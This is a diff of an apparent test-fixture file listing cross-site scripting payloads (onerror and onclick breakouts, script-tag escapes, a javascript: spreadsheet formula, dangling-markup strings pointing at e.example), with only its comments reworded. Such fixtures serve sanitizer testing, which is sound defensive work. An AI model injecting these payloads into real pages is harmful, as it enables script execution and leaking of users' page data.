@@ -1,7 +1,7 @@
 const IMG = '<img src=x onerror=alert(1)>'
 const BREAKOUT = `"><img src=x onerror=alert(1)>`
 
-/** Markdown, and HTML in the midst of it. */
+/** Markdown, and HTML inside it. */
 export const markdown = [
   ...[IMG, BREAKOUT, '" onclick="alert(1)', "' onclick='alert(1)", '&quot; onmouseover=&quot;alert(1)', '` onerror=alert(1) `'].flatMap(
     (text) => [
@@ -107,7 +107,7 @@ export const styles = [
   '<div style="x:y" style="background:url(https://e.example/)" class=mention>x</div>',
 ]
 
-/** Quotes that end an attribute, tags that end a text, and lines that end a header. */
+/** Quotes that end an attribute, tags that end a text element, and line breaks that end a header. */
 export const breakouts = [
   ...['onmouseover', 'onfocus', 'onclick', 'onerror', 'onload'].flatMap((name) => [
     `" ${name}=alert(1) x="`,
@@ -160,7 +160,7 @@ export const breakouts = [
   '=HYPERLINK("javascript:alert(1)")',
 ]
 
-/** Out of JSON or a script that stands in a page. */
+/** Breaks out of JSON or a script inside a page. */
 export const json = [
   '</script><script>alert(1)</script>',
   '</ScRiPt ><img src=x onerror=alert(1)>',
@@ -182,7 +182,7 @@ export const json = [
   'callback(alert(1))',
 ]
 
-/** Markup without an end, which swallows what follows it and sends it elsewhere. */
+/** Unterminated markup that captures what follows and sends it elsewhere. */
 export const dangling = [
   "<img src='https://e.example/?",
   '<img src="https://e.example/?',
